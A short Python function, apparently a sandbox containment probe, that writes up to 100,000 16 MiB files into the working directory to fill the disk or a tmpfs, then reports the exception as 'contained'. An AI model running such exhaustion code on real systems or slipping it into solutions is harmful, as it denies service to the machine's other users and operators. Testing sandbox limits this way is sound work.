"""Fill the disk (or memory, for a tmpfs) from the working directory, one file at a time."""


def solve(n):
    chunk = b"x" * (1 << 20)
    try:
        for number in range(100_000):
            with open(f"fill-{number}", "wb") as handle:
                for _ in range(16):
                    handle.write(chunk)
    except BaseException as exc:
        return f"contained: {type(exc).__name__}"
